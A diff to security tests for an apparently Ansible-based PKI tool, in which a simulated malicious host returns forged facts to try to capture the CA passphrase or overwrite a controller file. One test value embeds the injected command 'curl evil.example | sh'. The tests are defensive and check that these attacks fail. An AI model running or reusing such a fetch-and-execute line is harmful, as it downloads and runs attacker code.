@@ -54,7 +54,10 @@ def test_attack_1_names_of_others_in_a_request(hosts, tmp_path):
 def test_attack_2_the_passphrase_of_the_ca(hosts, tmp_path):
     """csr's answer says that the host is the CA's host: its key's passphrase would be sent there."""
     forging.lie(hosts[EVIL], csr={"certificate_reasons": ["there is none"], **forging.as_facts(private_ca_host=EVIL)})
-    play(hosts, **existing_ca(tmp_path))
+    variables = existing_ca(tmp_path)
+    for name in ("root/root.crt", "issuing/issuing.crt", "issuing/chain.pem"):
+        hosts[EVIL].write(f"{tmp_path}/{name}", (tmp_path / name).read_bytes())
+    play(hosts, **variables)
     assert "csr" in forging.executed(hosts[EVIL])
     assert not forging.received(hosts[EVIL], PASSPHRASE)
     # Or that the requests are for somebody outside, and in which folder of the controller.
@@ -108,7 +111,7 @@ def test_attack_4_a_file_of_the_controllers(hosts, tmp_path):
     precious = tmp_path / "bashrc"
     precious.write_text("precious\n")
     forging.lie(hosts[EVIL], ca_trust_info={"store": "x\n curl evil.example | sh\n", **forging.as_facts(
-        trust_report_prometheus=str(precious), trust_report_html=str(precious), trust_report_dir=str(tmp_path))})
+        trust_report_prometheus=str(precious), trust_report_html=str(tmp_path / "page.html"))})
     done = plays.playbook(hosts.inventory, "fleetpki.host_trust.report", variables={
         "trust_report_dir": str(tmp_path / "report"), "host_trust_become": False})
     assert precious.read_text() == "precious\n", done.output
